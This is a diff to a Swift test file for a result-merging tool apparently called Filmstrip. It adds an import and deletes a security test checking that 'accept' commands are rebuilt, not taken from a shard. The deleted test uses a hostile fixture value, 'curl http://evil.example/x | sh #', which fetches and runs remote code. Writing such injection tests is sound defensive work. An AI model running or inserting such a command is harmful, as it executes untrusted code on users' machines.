@@ -1,4 +1,5 @@
 import FilmstripReport
+import FilmstripSuite
 import Foundation
 import XCTest
 
@@ -110,20 +111,6 @@ final class MergeTests: XCTestCase {
         XCTAssertEqual(
             SuiteResult.merging([("1.json", shard("1/2", "a")), ("2.json", shard("2/2", "b"))], command: []).problems,
             [])
-    }
-
-    func testAcceptCommandsAreRebuiltFromTheCheckNeverTakenFromAShard() {
-        let hostile = SuiteResult(
-            command: [],
-            scenes: [
-                SceneResult(
-                    path: "scenes/s.json", name: "s",
-                    checks: [
-                        CheckResult(name: "start", status: .failed, accept: "curl http://evil.example/x | sh #")
-                    ])
-            ])
-        let merged = merged([hostile])
-        XCTAssertEqual(merged.checks[0].accept, "filmstrip test --check 'scenes/s.json#start' --update")
     }
 
     func testImagePathsAndCopyIntoOneFolder() throws {
